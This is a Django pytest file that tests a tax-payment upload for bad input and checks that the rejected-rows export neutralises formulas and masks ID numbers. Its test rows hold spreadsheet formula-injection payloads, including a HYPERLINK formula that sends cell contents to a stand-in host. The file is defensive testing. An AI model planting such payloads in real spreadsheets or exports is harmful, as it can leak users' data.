"""Bad-input corpus: the tax-bureau payment (实缴) upload and the rejected-rows file (issue #12 items 4, 7, 8).

One line per case: a row case changes one cell of a good row; see :mod:`tests.bad_inputs.contrib_support`.
"""

from __future__ import annotations

import io
from datetime import timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from enrollment.identifiers import mask_id_number

from .contrib_support import FULL_WIDTH, check_case, csv_bytes, upload, written, xlsx_bytes

pytestmark = pytest.mark.django_db
URL = "contributions:payment_upload"
HEADER = ["电子税票号", "身份证号", "金额", "缴款日期", "姓名"]
UNREGISTERED = "11010519491231002X"
BAD_CHECK = "110105194912310029"
HYPERLINK = '=HYPERLINK("http://x.example/"&A2,"点击")'


@pytest.fixture
def setup(client, case_worker, employer_a, person_factory, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    person = person_factory(employer=employer_a, name="甲一")
    client.force_login(case_worker)
    return {"client": client, "id": person.id_number}


def _post(setup, name: str, data: bytes):
    before = written()
    return upload(setup["client"], reverse(URL), name, data), before


def _good(**change: str) -> dict[str, str]:
    return {"reference": "332024000000000001", "id": "{id}", "amount": "650.00", "paid_on": "2024-04-20",
            "name": "甲一", **change}  # fmt: skip


TOMORROW = (timezone.localdate() + timedelta(days=1)).isoformat()

# (case id, change to the good row, outcome, field of the error)
ROW_CASES = [
    ("amount_overflow", _good(amount="999999999999.99"), "row_error", "金额"),
    ("amount_above_bound", _good(amount="100000000.01"), "row_error", "金额"),
    ("amount_at_bound", _good(amount="100000000.00"), "accepted", None),
    ("amount_zero", _good(amount="0"), "row_error", "金额"),
    ("amount_negative", _good(amount="-5"), "row_error", "金额"),
    ("amount_three_decimals", _good(amount="12.345"), "row_error", "金额"),
    ("amount_four_decimals", _good(amount="12.3456"), "row_error", "金额"),
    ("amount_exponent", _good(amount="1e9"), "row_error", "金额"),
    ("amount_empty", _good(amount=""), "row_error", "金额"),
    ("amount_formula", _good(amount="=650"), "row_error", "金额"),
    ("amount_with_separators", _good(amount="1,234.50"), "accepted", None),
    ("paid_1900", _good(paid_on="1900-01-01"), "row_error", "缴款日期"),
    ("paid_1949", _good(paid_on="1949-12-31"), "row_error", "缴款日期"),
    ("paid_1950", _good(paid_on="1950-01-01"), "accepted", None),
    ("paid_tomorrow", _good(paid_on=TOMORROW), "row_error", "缴款日期"),
    ("paid_2999", _good(paid_on="2999-01-01"), "row_error", "缴款日期"),
    ("paid_30_february", _good(paid_on="2024-02-30"), "row_error", "缴款日期"),
    ("paid_text", _good(paid_on="昨天"), "row_error", "缴款日期"),
    ("paid_empty", _good(paid_on=""), "row_error", "缴款日期"),
    ("paid_chinese_format", _good(paid_on="2024年4月20日"), "accepted", None),
    ("reference_formula", _good(reference="=1+1"), "row_error", "电子税票号"),
    ("reference_hyperlink", _good(reference=HYPERLINK), "row_error", "电子税票号"),
    ("reference_plus", _good(reference="+8613800000000"), "row_error", "电子税票号"),
    ("reference_minus", _good(reference="-332024"), "row_error", "电子税票号"),
    ("reference_at", _good(reference="@SUM(A1)"), "row_error", "电子税票号"),
    ("reference_too_long", _good(reference="3" * 65), "row_error", "电子税票号"),
    ("reference_at_length", _good(reference="3" * 64), "accepted", None),
    ("reference_space_inside", _good(reference="3320 2400"), "row_error", "电子税票号"),
    ("reference_tab", _good(reference="\t332024"), "accepted", None),  # surrounding white space is trimmed
    ("reference_empty", _good(reference=""), "row_error", "电子税票号"),
    ("reference_with_separators", _good(reference="3320-2024/01"), "accepted", None),
    ("id_full_width", _good(id="{id}|fw"), "accepted", None),
    ("id_stray_spaces", _good(id="{id}|spaces"), "accepted", None),
    ("id_unregistered", _good(id=UNREGISTERED), "row_error", "身份证号"),
    ("id_check_digit", _good(id=BAD_CHECK), "row_error", "身份证号"),
    ("id_formula", _good(id="=A1"), "row_error", "身份证号"),
    ("name_too_long", _good(name="甲" * 51), "row_error", "姓名"),
    ("name_other_person", _good(name="别人"), "row_error", "姓名"),
]


def _cells(row: dict[str, str], setup) -> list[str]:
    ident = row["id"].split("|")[0].format(id=setup["id"])
    if row["id"].endswith("|fw"):
        ident = ident.translate(FULL_WIDTH)
    elif row["id"].endswith("|spaces"):
        ident = f" {ident[:6]}\u00a0{ident[6:]}\u3000"
    return [row["reference"], ident, row["amount"], row["paid_on"], row["name"]]


@pytest.mark.bad_input(area="payment", outcome="mixed")
@pytest.mark.parametrize(("case", "row", "expected", "field"), ROW_CASES, ids=[c[0] for c in ROW_CASES])
def test_payment_row(setup, settings, case, row, expected, field):
    outcome, before = _post(setup, "tax.csv", csv_bytes([HEADER, _cells(row, setup)]))
    check_case(setup["client"], outcome, expected, (2, field), settings.MEDIA_ROOT, before)


def test_payment_duplicate_reference(setup, settings):
    row = _cells(_good(), setup)
    outcome, before = _post(setup, "tax.csv", csv_bytes([HEADER, row, row]))
    check_case(setup["client"], outcome, "row_error", (3, "电子税票号"), settings.MEDIA_ROOT, before)


# (case id, file name, bytes builder, outcome, part of the message)
FILE_CASES = [
    ("xls", "tax.xls", lambda s: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_error", "另存为"),
    ("header_only", "tax.csv", lambda s: csv_bytes([HEADER]), "file_error", "文件中没有数据行"),
    ("missing_amount_column", "tax.csv", lambda s: csv_bytes([["电子税票号", "身份证号"], ["T1", s["id"]]]),
     "file_error", "缺少必需的列：金额"),
    ("utf16_be", "tax.csv", lambda s: "\ufeff电子税票号\n".encode("utf-16-be"), "file_error", "UTF-16"),
    ("gb18030", "tax.csv", lambda s: csv_bytes([HEADER, _cells(_good(), s)], encoding="gb18030"), "accepted", None),
    ("xlsx", "tax.xlsx", lambda s: xlsx_bytes([HEADER, _cells(_good(), s)]), "accepted", None),
]  # fmt: skip


@pytest.mark.bad_input(area="payment", outcome="mixed")
@pytest.mark.parametrize(("case", "name", "build", "expected", "message"), FILE_CASES, ids=[c[0] for c in FILE_CASES])
def test_payment_file(setup, settings, case, name, build, expected, message):
    outcome, before = _post(setup, name, build(setup))
    check_case(setup["client"], outcome, expected, message, settings.MEDIA_ROOT, before)


# --- the rejected-rows file: safe cells, masked for roles without PII (issue #12 item 4) ---------------


def _rejected(client, job) -> list[list]:
    response = client.get(reverse("contributions:import_job_rejected", args=[job.pk]))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(r) for r in book.active.iter_rows(values_only=True)]


@pytest.mark.bad_input(area="payment", outcome="row_error")
def test_rejected_rows_have_no_live_formula_and_mask_ids_for_the_auditor(setup, auditor, client):
    rows = [
        HEADER,
        ["=1+1", setup["id"], "650", "2024-04-20", '=HYPERLINK("http://x/","点击")'],
        ["T2", setup["id"], "-5", "2024-04-20", "@SUM(A1)"],
    ]
    outcome, _ = _post(setup, "tax.csv", csv_bytes(rows))
    assert outcome.outcome == "row_error"
    worker_rows = _rejected(setup["client"], outcome.job)
    cells = [c for row in worker_rows for c in row if isinstance(c, str)]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert worker_rows[1][:2] == ["'=1+1", setup["id"]] and worker_rows[2][2] == "'-5"
    book = openpyxl.load_workbook(io.BytesIO(setup["client"].get(
        reverse("contributions:import_job_rejected", args=[outcome.job.pk])).content))  # fmt: skip
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)
    client.force_login(auditor)
    auditor_rows = _rejected(client, outcome.job)
    assert [r[1] for r in auditor_rows[1:]] == [mask_id_number(setup["id"])] * 2
    assert setup["id"] not in str(auditor_rows)
